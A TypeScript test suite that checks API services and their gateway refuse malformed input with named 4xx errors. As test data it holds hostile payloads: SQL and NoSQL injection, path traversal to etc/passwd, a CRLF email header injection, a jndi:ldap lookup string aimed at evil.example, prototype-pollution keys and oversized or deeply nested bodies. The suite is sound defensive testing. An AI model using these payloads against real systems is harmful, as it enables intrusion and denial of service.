import { gzipSync } from 'node:zlib';
import { type Answer, exchange, newAddress, requestsMade, type Sent } from '../support/exchange.ts';
import {
  changed,
  fieldsOf,
  isUnsafe,
  type Operation,
  pathOf,
  type Schema,
  sampleOf,
  wrongValues,
} from './api.ts';
import { admitted, type Cast, forEachOf, gatherCast, ownPath } from './cast.ts';
import { faultsOfRefusal } from './judgement.ts';

/** Every route of every service, bad input of every kind: always a 4xx that names what is wrong, never a 5xx. */

const MEGABYTES_10 = 10 * 1024 * 1024;
let cast: Cast;
beforeAll(async () => {
  cast = await gatherCast();
});
afterAll(() => process.stdout.write(`bad input: ${requestsMade()} requests\n`));

const withBody = () => cast.operations.filter(({ body }) => body !== undefined);
/** Where an empty body is refused. Elsewhere it would be a right one, and do something. */
const demanding = () => withBody().filter(({ body }) => (body?.required?.length ?? 0) > 0);

/** Requests come from many addresses in turn, so that none is slowed down. */
const addresses = Array.from({ length: 64 }, newAddress);
let turn = 0;

function as(operation: Operation, sent: Partial<Sent>): Promise<Answer> {
  const from = addresses[turn++ % addresses.length];
  const asked = { method: operation.method, path: ownPath(cast, operation), from };
  return admitted(cast, operation).send({ ...asked, ...sent });
}
const JSON_TYPE = { 'content-type': 'application/json' };
const json = (operation: Operation, body: unknown): Promise<Answer> =>
  as(operation, { headers: JSON_TYPE, body: JSON.stringify(body) });

/** Judges many answers and shows all that is wrong, not the first alone. */
async function judge<T>(
  all: Iterable<T>,
  attempt: (one: T) => Promise<Answer>,
  expected: (one: T) => { statuses?: number[]; field?: string } = () => ({}),
): Promise<void> {
  const faults: string[] = [];
  let seen = 0;
  await forEachOf(all, async (one) => {
    seen += 1;
    const answer = await attempt(one);
    // Where all requests must come from one address, some are slowed down: refused too, for another reason.
    if (answer.status !== 429 || addresses[0]) faults.push(...faultsOfRefusal(answer, expected(one)));
  });
  expect(faults).toEqual([]);
  expect(seen).toBeGreaterThan(0);
}

describe('a body that is no body', () => {
  const each = (bodies: (string | Buffer)[]) =>
    cast.operations.filter(isUnsafe).flatMap((operation) => bodies.map((body) => ({ operation, body })));

  it('is refused when it is broken JSON, and the answer names the body', async () => {
    const broken = ['{"a":', "{'a':1}", '{"a":1}}', 'null', '12', '"text"', 'NaN', '{"a":\u0000}', '<a/>'];
    await judge(
      each([...broken, Buffer.from([0xff, 0xfe, 0x00])]),
      ({ operation, body }) => as(operation, { headers: JSON_TYPE, body }),
      () => ({ statuses: [400], field: 'body' }),
    );
  });

  it('is refused at 10 MB, however it is sent', async () => {
    const big = JSON.stringify({ a: 'x'.repeat(MEGABYTES_10) });
    const packed = gzipSync(big);
    await judge(
      each([big, packed]),
      ({ operation, body }) => {
        const encoding = body === packed ? { 'content-encoding': 'gzip' } : {};
        return as(operation, { headers: { ...JSON_TYPE, ...encoding }, body });
      },
      () => ({ statuses: [413], field: 'body' }),
    );
  });

  it('is refused when it is nested without end', async () => {
    const deep = [
      `${'['.repeat(50_000)}${']'.repeat(50_000)}`,
      `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`,
    ];
    await judge(
      each(deep),
      ({ operation, body }) =>
        as(operation, { headers: { ...JSON_TYPE, 'idempotency-key': 'nested-for-ever' }, body }),
      () => ({ statuses: [400], field: 'body' }),
    );
  });

  it('is refused when it is packed in a way that it is not', async () => {
    const headers = { ...JSON_TYPE, 'content-encoding': 'gzip' };
    await judge(each(['{"a":1}']), ({ operation, body }) => as(operation, { headers, body }));
    await judge(each(['{"a":1}']), ({ operation, body }) =>
      as(operation, { headers: { ...headers, 'content-encoding': 'surprise' }, body }),
    );
  });

  it('is refused in another format than JSON', async () => {
    const types = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=b', 'x'];
    const all = withBody().flatMap((operation) => types.map((type) => ({ operation, type })));
    await judge(
      all,
      ({ operation, type }) =>
        as(operation, { headers: { 'content-type': type }, body: JSON.stringify(sampleOf(operation.body!)) }),
      () => ({ statuses: [415], field: 'content-type' }),
    );
  });

  it('is refused in a character set that is none', async () => {
    const headers = { 'content-type': 'application/json; charset=klingon' };
    await judge(
      withBody(),
      (operation) => as(operation, { headers, body: '{"a":1}' }),
      () => ({
        statuses: [415],
      }),
    );
  });
});

describe('a body whose fields are wrong', () => {
  const eachField = () =>
    withBody().flatMap((operation) =>
      fieldsOf(operation.body!).map((field) => ({ operation, field, name: field.path.join('.') })),
    );

  it('is refused without the fields that it needs, each named', async () => {
    const missing = eachField().filter(({ field }) => field.required);
    await judge(
      missing,
      ({ operation, field }) => json(operation, changed(sampleOf(operation.body!), field.path, undefined)),
      ({ name }) => ({ statuses: [400], field: name }),
    );
    const first = (operation: Operation) => ({ statuses: [400], field: operation.body!.required![0]! });
    await judge(demanding(), (operation) => json(operation, {}), first);
    await judge(demanding(), (operation) => as(operation, { headers: JSON_TYPE, body: '' }), first);
    await judge(demanding(), (operation) => as(operation, {}), first);
  });

  it('is refused with a value of another type in any field, which is named', async () => {
    await judge(
      eachField().flatMap((one) => wrongValues(one.field.schema).map((value) => ({ ...one, value }))),
      ({ operation, field, value }) => json(operation, changed(sampleOf(operation.body!), field.path, value)),
      ({ name }) => ({ statuses: [400], field: name }),
    );
  });

  it('is refused with database operators in any place', async () => {
    const operators = [
      { $gt: '' },
      { $ne: null },
      { $where: 'sleep(5000)' },
      { $regex: '.*' },
      [{ $gt: '' }],
    ];
    await judge(
      withBody().flatMap((operation) => operators.map((body) => ({ operation, body }))),
      ({ operation, body }) => json(operation, body),
      () => ({ statuses: [400] }),
    );
    const texts = eachField().filter(({ field }) => field.schema.type === 'string');
    await judge(
      texts.flatMap((one) => operators.map((value) => ({ ...one, value }))),
      ({ operation, field, value }) => json(operation, changed(sampleOf(operation.body!), field.path, value)),
      ({ name }) => ({ statuses: [400], field: name }),
    );
  });

  it('is refused with a field that nobody asked for, which is named, at any depth', async () => {
    const groups = withBody().flatMap((operation) =>
      [{ path: [] as string[], schema: operation.body! }, ...fieldsOf(operation.body!)]
        .filter(({ schema }) => schema.properties)
        .flatMap(({ path }) =>
          ['iban', '__proto__', 'constructor', '$set'].map((extra) => ({
            operation,
            path: [...path, extra],
          })),
        ),
    );
    await judge(
      groups,
      ({ operation, path }) => {
        // A literal __proto__ key survives only as text.
        const mark = 'the-key-that-nobody-asked-for';
        const body = changed(sampleOf(operation.body!), [...path.slice(0, -1), mark], { admin: true });
        const text = JSON.stringify(body).replace(mark, path.at(-1)!);
        return as(operation, { headers: JSON_TYPE, body: text });
      },
      ({ path }) => ({ statuses: [400], field: path.join('.') }),
    );
  });

  it('is refused with a text that is too long in any field, which is named', async () => {
    const texts = eachField().filter(({ field }) => field.schema.type === 'string');
    await judge(
      texts,
      ({ operation, field }) =>
        json(operation, changed(sampleOf(operation.body!), field.path, 'x'.repeat(20_000))),
      ({ name }) => ({ statuses: [400], field: name }),
    );
  });

  it('is refused, and never a surprise, with characters that no one types', async () => {
    const odd = [
      'a\u0000b',
      'a\r\nBcc: x@evil.example',
      '\u202Egnp.exe',
      '\ud800',
      '\uffff',
      '${7*7}',
      "' OR 1=1 --",
    ];
    const texts = eachField().filter(({ field }) => field.schema.type === 'string');
    await judge(
      texts.flatMap((one) => odd.map((value) => ({ ...one, value }))),
      ({ operation, field, value }) => {
        const sample = sampleOf(operation.body!) as Record<string, unknown>;
        // One fault more, so that what only looks odd is not taken for right and done.
        return json(operation, { ...(changed(sample, field.path, value) as object), unasked: 1 });
      },
      () => ({ statuses: [400] }),
    );
  });

  it('is refused with a list of a hundred thousand', async () => {
    const lists = eachField().filter(({ field }) => field.schema.type === 'array');
    await judge(
      lists,
      ({ operation, field }) =>
        json(operation, changed(sampleOf(operation.body!), field.path, Array(50_000).fill('a'))),
      ({ name }) => ({ statuses: [400], field: name }),
    );
  });
});

describe('an address that is wrong', () => {
  const ids = [
    'x',
    '0',
    'null',
    '%00',
    '%E0%A4%A',
    '..%2f..%2fkeys',
    '%7B%22%24gt%22%3A%22%22%7D',
    '[object%20Object]',
    "'%20OR%201=1",
    'a'.repeat(4_000),
  ];
  const withId = () => cast.operations.filter(({ path }) => path.includes('{'));

  it('is refused with an id that is none', async () => {
    await judge(
      withId().flatMap((operation) => ids.map((id) => ({ operation, id }))),
      ({ operation, id }) => {
        const path = operation.path.replaceAll(/\{\w+\}/g, id);
        const headers = operation.body ? JSON_TYPE : {};
        const body = operation.body ? JSON.stringify(sampleOf(operation.body)) : undefined;
        return as(operation, { path, headers, body });
      },
      () => ({ statuses: [400, 404] }),
    );
  });

  it('is refused with a wrong value in the query, which is named', async () => {
    const parameters = cast.operations.flatMap((operation) =>
      operation.parameters
        .filter((one) => one.in === 'query')
        .map(({ name, schema }) => ({ operation, name, schema })),
    );
    /** Words that somebody searches for may be any; they are no more wrong than too many, or too long. */
    const isWords = ({ type, enum: values, format, pattern }: Schema) =>
      type === 'string' && !values && !format && !pattern;
    const always = [`=${'x'.repeat(2_000)}`, '=fr&NAME=en'];
    const values = ['=none-of-these', '=', '=%24gt', ...always];
    await judge(
      parameters.flatMap((one) =>
        (isWords(one.schema) ? always : values).map((value) => ({ ...one, value })),
      ),
      ({ operation, name, value }) =>
        as(operation, { path: `${ownPath(cast, operation)}?${name}${value.replace('NAME', name)}` }),
      ({ name }) => ({ statuses: [400], field: `query.${name}` }),
    );
    await judge(
      parameters,
      ({ operation, name }) => as(operation, { path: `${ownPath(cast, operation)}?${name}[$gt]=` }),
      () => ({ statuses: [400] }),
    );
  });

  it('is refused when nothing is there', async () => {
    const paths = cast.operations.flatMap((operation) => {
      const path = ownPath(cast, operation);
      return [`${path}/nothing`, `${path}x`, `${path}%00`, `${path}/..%2f..%2fetc%2fpasswd`];
    });
    await judge(
      paths,
      (path) => cast.operator.send({ method: 'GET', path }),
      () => ({ statuses: [400, 403, 404] }),
    );
  });

  it('is refused by another method than it has', async () => {
    const paths = [...new Set(cast.operations.map(({ path }) => path))];
    const attempts = paths.flatMap((path) => {
      const known = cast.operations
        .filter((operation) => operation.path === path)
        .map(({ method }) => method);
      const operation = cast.operations.find((one) => one.path === path)!;
      return ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'PROPFIND']
        .filter((method) => !known.includes(method))
        .map((method) => ({ operation, method }));
    });
    await judge(
      attempts,
      ({ operation, method }) => cast.operator.send({ method, path: ownPath(cast, operation) }),
      () => ({ statuses: [404, 405] }),
    );
  });
});

describe('headers that are wrong', () => {
  it('are refused when they are huge', async () => {
    for (const { path } of cast.operations.filter(({ method }) => method === 'GET')) {
      for (const name of ['x-anything', 'cookie', 'authorization']) {
        const headers = { [name]: 'x'.repeat(40_000) };
        // The gateway answers and hangs up; its answer may be overtaken by the end of the line.
        const said = await exchange(cast.system.application, { method: 'GET', path, headers }).then(
          ({ status }) => status,
          (error: { code?: string }) => error.code,
        );
        expect([path, name, [431, 'ECONNRESET', 'EPIPE'].includes(said!)]).toEqual([path, name, true]);
      }
    }
  });

  it('are refused when there is an idempotency key that is none', async () => {
    const keys = ['short', 'k'.repeat(129), 'a key with spaces', 'clé-à-accents'.normalize('NFC')];
    const body = JSON.stringify({ token: 'no token of anybody' });
    await judge(
      keys,
      (key) =>
        cast.nobody.send({
          method: 'POST',
          path: '/api/account/confirmations',
          headers: { ...JSON_TYPE, 'idempotency-key': Buffer.from(key).toString('latin1') },
          body,
        }),
      () => ({ statuses: [400], field: 'Idempotency-Key' }),
    );
  });

  it('change nothing when they are odd', async () => {
    const odd: Record<string, string>[] = [
      { 'accept-language': `${'de,'.repeat(1_000)}en` },
      { 'accept-language': '../../etc/passwd' },
      { accept: 'application/xml' },
      { 'x-forwarded-for': '1.2.3.4, <script>' },
      { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https' },
      { 'x-http-method-override': 'DELETE', 'x-original-url': '/api/identity/users' },
      { traceparent: 'x'.repeat(55), tracestate: 'a=b' },
      { 'user-agent': '${jndi:ldap://evil.example/a}' },
      { cookie: 'ks_access=j%3A%7B%22%24gt%22%3A%22%22%7D; =; ;;; a=%E0%A4%A; __proto__=1' },
      { range: 'bytes=0-1' },
      { 'if-none-match': '*' },
      { expect: '100-continue' },
    ];
    const open = cast.operations.filter(({ method, who, path }) => {
      return method === 'GET' && who.includes('anyone') && !path.includes('{');
    });
    for (const { path } of open) {
      for (const headers of odd) {
        const { status } = await exchange(cast.system.application, { method: 'GET', path, headers });
        expect([path, headers, [200, 304].includes(status)]).toEqual([path, headers, true]);
      }
    }
  });
});

describe('the gateway', () => {
  it('keeps the inner addresses of services to itself', async () => {
    for (const path of ['/healthz', '/readyz', '/metrics', '/api/account/metrics', '/api/identity/readyz']) {
      const { status } = await exchange(cast.system.application, { method: 'GET', path });
      expect([path, status]).toEqual([path, 404]);
    }
  });

  it('does not lead out of a service’s own paths', async () => {
    for (const path of [
      '/api/account/../identity/keys',
      '/api/account/%2e%2e/identity/keys',
      '/api/accountx/offers',
      '/api/account/../../metrics',
      '/api/account\\..\\identity\\keys',
    ]) {
      const { status } = await exchange(cast.system.application, { method: 'GET', path });
      expect([path, [400, 404].includes(status)]).toEqual([path, true]);
    }
  });
});

describe('a route with an id', () => {
  it('answers an id that does not exist with 404', async () => {
    const reading = cast.operations.filter(({ method, path }) => method === 'GET' && path.includes('{'));
    await judge(
      reading,
      (operation) => as(operation, { path: pathOf(operation) }),
      () => ({ statuses: [404] }),
    );
  });
});
